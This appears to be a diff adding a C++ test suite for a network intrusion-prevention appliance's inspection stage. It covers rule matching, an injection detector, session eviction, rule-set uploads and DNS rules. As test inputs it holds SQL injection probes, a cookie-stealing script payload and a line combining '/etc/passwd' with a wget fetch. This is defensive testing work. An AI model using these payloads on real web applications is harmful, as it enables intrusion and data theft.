@@ -1,0 +1,295 @@
+// The appliance's slot 6 (rules/appliance_stage.hpp) over the real pipeline<appliance_config>:
+// the built-in rule set and the injection detector on HTTP requests, the side table of sessions,
+// the verdict ring, uploaded sets switched atomically, runtime signatures.
+// Invariants: a dropped flow alerts once and stays dropped; every packet reaching slot 6 is
+// inspected (counted) whatever the side table's load; an upload that fails validation never
+// replaces the running set; a set is only written where it does not run.
+#include <catch2/catch.hpp>
+
+#include <array>
+#include <memory>
+#include <random>
+#include <string>
+#include <vector>
+
+#include <secengine/appliance.hpp>
+#include <secengine/inject/detector.hpp>
+#include <secengine/net/builder.hpp>
+#include <secengine/pipeline.hpp>
+#include <secengine/rules/builtin_db.hpp>
+
+#include "engine_util.hpp"
+
+namespace {
+
+using namespace secengine;
+using engine_type = pipeline<appliance_config>;
+
+constexpr std::array<std::uint8_t, 6> mac_a{2, 0, 0, 0, 0, 1}, mac_b{2, 0, 0, 0, 0, 2};
+
+struct rig {
+    std::unique_ptr<engine_type> e = std::make_unique<engine_type>(77, 0);
+    std::array<std::byte, 1600> buf{};
+    std::uint64_t now = 1000;
+
+    verdict send(std::uint16_t sport, std::string_view payload, std::uint8_t flags = 0x18, bool reply = false) {
+        net::frame_builder b{buf};
+        const std::uint32_t c = 0xCB007107, s = 0x0A000014;
+        b.ethernet(mac_a, mac_b)
+            .ipv4(reply ? s : c, reply ? c : s, net::ipproto::tcp)
+            .tcp(reply ? 80 : sport, reply ? sport : 80, flags, 1, 1)
+            .payload(std::span<const std::byte>(reinterpret_cast<const std::byte*>(payload.data()), payload.size()));
+        return e->process(std::span<std::byte>(buf.data(), b.finish()), now += 1000, reply ? direction::outbound : direction::inbound);
+    }
+    verdict open_and_send(std::uint16_t sport, std::string_view payload) {
+        REQUIRE(send(sport, "", 0x02).pass());
+        REQUIRE(send(sport, "", 0x12, true).pass());
+        REQUIRE(send(sport, "", 0x10).pass());
+        return send(sport, payload);
+    }
+    std::vector<alert_event> alerts() {
+        std::vector<alert_event> v;
+        alert_event a;
+        while (e->alerts().pop(a)) v.push_back(a);
+        return v;
+    }
+    auto& stage() { return e->dpi(); }
+};
+
+std::string request(const std::string& target) { return "GET " + target + " HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: t\r\n\r\n"; }
+
+}  // namespace
+
+TEST_CASE("slot 6 runs the built-in rule set from .rodata", "[appliance_stage]") {
+    rig r;
+    REQUIRE(r.stage().builtin_error() == rules::db_error::ok);
+    REQUIRE(r.stage().active() == rules::appliance_stage<>::source::builtin);
+    REQUIRE(r.stage().db().rule_count() == 55);
+    REQUIRE(r.stage().db().bytes().data() == rules::embedded::builtin_db().data());  // read in place, not copied
+
+    REQUIRE(r.open_and_send(40000, request("/index.html")).pass());
+    const verdict v = r.open_and_send(40001, request("/?id=1%20UNION%20SELECT%20pass"));
+    REQUIRE(v.reason == drop_reason::dpi_signature);
+    REQUIRE(v.stage == 6);
+    REQUIRE(v.detail == 1001);
+    auto al = r.alerts();
+    REQUIRE(al.size() == 1);
+    REQUIRE(al[0].detail == 1001);
+    REQUIRE(al[0].gid == 1);
+    REQUIRE(al[0].rev == 1);
+    REQUIRE(al[0].flags == 0);
+    REQUIRE(al[0].stage == 6);
+    REQUIRE(al[0].sport == 40001);
+    // Retransmissions and later packets of the dropped flow: dropped, no second alert.
+    for (int i = 0; i < 5; ++i) REQUIRE(r.send(40001, request("/?id=1%20UNION%20SELECT%20pass")).drop());
+    REQUIRE(r.send(40001, "", 0x10).drop());
+    REQUIRE(r.alerts().empty());
+    REQUIRE(r.stage().stats().verdict_drops == 6);
+    // Its session slot was freed at once (the verdict lives in the ring).
+    REQUIRE(r.stage().active_sessions() <= 1);
+}
+
+TEST_CASE("slot 6 runs the injection detector on HTTP requests", "[appliance_stage]") {
+    rig r;
+    // sqlmap's boolean blind probe (issue 12): no literal signature matches it.
+    const verdict v = r.open_and_send(40010, request("/item?id=1%27%20AND%207029%3D8688%20AND%20%27a%27%3D%27a"));
+    REQUIRE(v.reason == drop_reason::dpi_signature);
+    REQUIRE(v.detail >= 1200001);
+    REQUIRE(v.detail < 1201000);
+    const auto al = r.alerts();
+    REQUIRE(al.size() == 1);
+    REQUIRE(al[0].detail == v.detail);
+    std::size_t hits = 0;
+    for (std::size_t i = 0; i < inject::detector_rule_count; ++i) hits += r.stage().detector_hits(i);
+    REQUIRE(hits == 1);
+    // Benign prose in the same parameter passes.
+    REQUIRE(r.open_and_send(40011, request("/item?q=o%27neil%20boots%20union%20station")).pass());
+    REQUIRE(r.alerts().empty());
+}
+
+TEST_CASE("a split request is inspected as one message (property over cut points)", "[appliance_stage]") {
+    const std::string attack = request("/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E");
+    for (std::size_t cut = 1; cut < attack.size(); cut += 3) {
+        rig r;
+        INFO("cut " << cut);
+        // Dropped by the segment that completes what the detector or a rule needs (the first one
+        // once it holds the whole target), never later; one alert either way.
+        const verdict v1 = r.open_and_send(41000, attack.substr(0, cut));
+        const verdict v2 = r.send(41000, attack.substr(cut));
+        REQUIRE(v2.drop());
+        if (cut < attack.find(" HTTP/1.1")) REQUIRE(v1.pass());
+        REQUIRE(r.alerts().size() == 1);
+    }
+}
+
+TEST_CASE("benign random requests pass and raise nothing (property)", "[appliance_stage]") {
+    rig r;
+    std::mt19937 rng(11);
+    const char* words[] = {"shoes", "red", "size", "42", "garden", "chair", "blue", "lamp", "book", "kids"};
+    for (int i = 0; i < 200; ++i) {
+        std::string q = "/search?q=";
+        const int n = 1 + static_cast<int>(rng() % 4);
+        for (int k = 0; k < n; ++k) q += std::string(k ? "+" : "") + words[rng() % 10];
+        REQUIRE(r.open_and_send(static_cast<std::uint16_t>(20000 + i), request(q)).pass());
+    }
+    REQUIRE(r.alerts().empty());
+    REQUIRE(r.stage().stats().packets > 0);
+}
+
+TEST_CASE("the side table evicts the idlest session and every packet is still inspected", "[appliance_stage]") {
+    rig r;
+    constexpr std::size_t cap = rules::appliance_stage_sizes::sessions;
+    std::mt19937 rng(5);
+    // More concurrent connections than sessions: each sends a first request segment.
+    const std::size_t conns = cap * 3;
+    for (std::size_t c = 0; c < conns; ++c) REQUIRE(r.open_and_send(static_cast<std::uint16_t>(30000 + c), "GET /a").pass());
+    const auto& st = r.stage().stats();
+    REQUIRE(st.evicted >= conns - cap);
+    REQUIRE(r.stage().active_sessions() <= cap);
+    // A whole attack in one packet of any of them is found, evicted or not.
+    for (std::size_t c = 0; c < conns; ++c) {
+        const auto port = static_cast<std::uint16_t>(30000 + c);
+        const verdict v = r.send(port, " /etc/passwd; wget http://x/ HTTP/1.1\r\n\r\n");
+        REQUIRE(v.drop());
+    }
+    REQUIRE(r.alerts().size() == conns);
+    (void)rng;
+}
+
+TEST_CASE("alert rules report without dropping; uploaded sets switch atomically", "[appliance_stage]") {
+    rig r;
+    auto& s = r.stage();
+    test::engine a({R"(alert http any any -> any any (msg:"curl"; flow:to_server; http.uri; content:"/probe-a"; sid:9000001; rev:3;))"},
+                   rulesc::default_vars(), 1);
+    test::engine b({R"(drop http any any -> any any (msg:"b"; flow:to_server; http.uri; content:"/probe-b"; sid:9000002; rev:1;))"},
+                   rulesc::default_vars(), 1);
+    REQUIRE(a.db.image.size() <= s.upload_capacity());
+    REQUIRE(b.db.image.size() <= s.upload_capacity());
+    auto put = [&](const std::vector<std::byte>& img) {
+        auto area = s.upload_area();
+        std::copy(img.begin(), img.end(), area.begin());
+        return s.install(img.size());
+    };
+    REQUIRE(put(a.db.image) == rules::db_error::ok);
+    REQUIRE(s.active() == rules::appliance_stage<>::source::uploaded);
+    // An alert rule: passes, reported with its rev and the alert-only flag.
+    REQUIRE(r.open_and_send(42000, request("/probe-a")).pass());
+    auto al = r.alerts();
+    REQUIRE(al.size() == 1);
+    REQUIRE(al[0].detail == 9000001);
+    REQUIRE(al[0].rev == 3);
+    REQUIRE((al[0].flags & alert_event::alert_only) != 0);
+    REQUIRE(s.rule_hits(0) == 1);
+    // The built-in rules no longer run.
+    REQUIRE(r.open_and_send(42001, request("/?x=information_schema")).pass());
+
+    // An upload goes to the other area: writing it (even garbage) never touches the running set.
+    const auto running = s.db().bytes().data();
+    REQUIRE(s.upload_area().data() != running);
+    std::mt19937 rng(9);
+    for (auto& x : s.upload_area()) x = static_cast<std::byte>(rng());
+    REQUIRE(r.open_and_send(42002, request("/probe-a")).pass());
+    REQUIRE(r.alerts().size() == 1);  // set a still runs
+    // Refusals: random bytes, a flipped bit (CRC), truncated, oversized; the old set stays.
+    REQUIRE(s.install(1024) != rules::db_error::ok);
+    std::vector<std::byte> bad = b.db.image;
+    bad[bad.size() / 2] ^= std::byte{1};
+    REQUIRE(put(bad) == rules::db_error::bad_checksum);
+    REQUIRE(put(std::vector<std::byte>(b.db.image.begin(), b.db.image.begin() + 100)) == rules::db_error::truncated);
+    REQUIRE(s.install(s.upload_capacity() + 8) == rules::db_error::truncated);
+    REQUIRE(s.db().bytes().data() == running);
+    REQUIRE(r.open_and_send(42003, request("/probe-a")).pass());
+    REQUIRE(r.alerts().size() == 1);
+    // A good upload: switched, and it drops.
+    REQUIRE(put(b.db.image) == rules::db_error::ok);
+    REQUIRE(s.db().bytes().data() != running);
+    REQUIRE(r.open_and_send(42004, request("/probe-b")).drop());
+    REQUIRE(r.open_and_send(42005, request("/probe-a")).pass());
+    al = r.alerts();
+    REQUIRE(al.size() == 1);
+    REQUIRE(al[0].detail == 9000002);
+    s.use_builtin();
+    REQUIRE(r.open_and_send(42006, request("/?x=information_schema")).drop());
+}
+
+TEST_CASE("runtime signatures (sig-add) run in front of the rules", "[appliance_stage]") {
+    rig r;
+    auto& s = r.stage();
+    REQUIRE(s.automaton().pattern_count() == 0);
+    REQUIRE(s.add_signature(std::string_view("evil-marker"), 777, true) == dpi::dpi_error::ok);
+    REQUIRE(r.open_and_send(43000, "hello EVIL-MARKER there").drop());
+    REQUIRE(s.hits(777) == 1);
+    const auto al = r.alerts();
+    REQUIRE(al.size() == 1);
+    REQUIRE(al[0].detail == 777);
+    REQUIRE(s.remove_signature(777) == dpi::dpi_error::ok);
+    REQUIRE(r.open_and_send(43001, "hello EVIL-MARKER there").pass());
+}
+
+TEST_CASE("hostile payloads never crash slot 6 (property)", "[appliance_stage]") {
+    rig r;
+    std::mt19937 rng(21);
+    for (int i = 0; i < 2000; ++i) {
+        std::string p(rng() % 1400, '\0');
+        for (auto& c : p) c = static_cast<char>(rng() % 4 == 0 ? "GET /?%'\"<>;\r\n "[rng() % 16] : rng());
+        if (rng() % 3 == 0) p = "GET /" + p;
+        (void)r.send(static_cast<std::uint16_t>(50000 + rng() % 8), p, static_cast<std::uint8_t>(rng() % 2 ? 0x18 : 0x11), rng() % 4 == 0);
+    }
+    const auto& st = r.e->stats();
+    REQUIRE(st.received == st.passed + st.dropped_total());
+    REQUIRE(r.stage().active_sessions() <= rules::appliance_stage_sizes::sessions);
+}
+
+TEST_CASE("a full-size request: long headers past the kernel's regions, the injection still found", "[appliance_stage]") {
+    std::mt19937 rng(31);
+    for (int trial = 0; trial < 30; ++trial) {
+        rig r;
+        const std::size_t pad = 200 + rng() % 1150;  // Referer of 200..1350 bytes: truncated past 256
+        // sqlmap's boolean probe: only the injection detector knows it (one alert, its sid).
+        std::string req = "GET /find?id=1%27%20AND%207029%3D8688%20AND%20%27a%27%3D%27a HTTP/1.1\r\nHost: shop.example\r\nReferer: http://shop.example/" +
+                          std::string(pad, 'r') + "\r\n\r\n";
+        REQUIRE(req.size() <= 1460);
+        INFO("pad " << pad);
+        REQUIRE(r.open_and_send(static_cast<std::uint16_t>(44000 + trial), req).drop());
+        const auto al = r.alerts();
+        REQUIRE(al.size() == 1);
+        REQUIRE(al[0].detail >= 1200001);
+        // The same request without the attack passes.
+        std::string benign = req;
+        const std::string probe = "1%27%20AND%207029%3D8688%20AND%20%27a%27%3D%27a";
+        benign.replace(benign.find(probe), probe.size(), "1234");
+        REQUIRE(r.open_and_send(static_cast<std::uint16_t>(45000 + trial), benign).pass());
+    }
+}
+
+TEST_CASE("DNS questions are units of their own in slot 6", "[appliance_stage]") {
+    rig r;
+    auto& s = r.stage();
+    test::engine d({R"(alert dns any any -> any any (msg:"evil name"; dns.query; content:"evil.example"; nocase; sid:9300001; rev:2;))"},
+                   rulesc::default_vars(), 1);
+    auto area = s.upload_area();
+    std::copy(d.db.image.begin(), d.db.image.end(), area.begin());
+    REQUIRE(s.install(d.db.image.size()) == rules::db_error::ok);
+    auto query = [&](std::uint16_t sport, const std::vector<std::string>& labels) {
+        std::vector<std::byte> q(12);
+        q[1] = std::byte{1};   // id
+        q[2] = std::byte{1};   // RD
+        q[5] = std::byte{1};   // QDCOUNT = 1
+        for (const auto& l : labels) {
+            q.push_back(static_cast<std::byte>(l.size()));
+            for (char ch : l) q.push_back(static_cast<std::byte>(ch));
+        }
+        for (int b : {0, 0, 1, 0, 1}) q.push_back(static_cast<std::byte>(b));
+        net::frame_builder b{r.buf};
+        b.ethernet(mac_a, mac_b).ipv4(0xCB007107, 0x0A000035, net::ipproto::udp).udp(sport, 53).payload(q);
+        return r.e->process(std::span<std::byte>(r.buf.data(), b.finish()), r.now += 1000);
+    };
+    REQUIRE(query(5300, {"www", "example", "org"}).pass());
+    REQUIRE(r.alerts().empty());
+    REQUIRE(query(5301, {"a", "EVIL", "example"}).pass());  // an alert rule: reported, not dropped
+    const auto al = r.alerts();
+    REQUIRE(al.size() == 1);
+    REQUIRE(al[0].detail == 9300001);
+    REQUIRE(al[0].rev == 2);
+    REQUIRE((al[0].flags & alert_event::alert_only) != 0);
+}
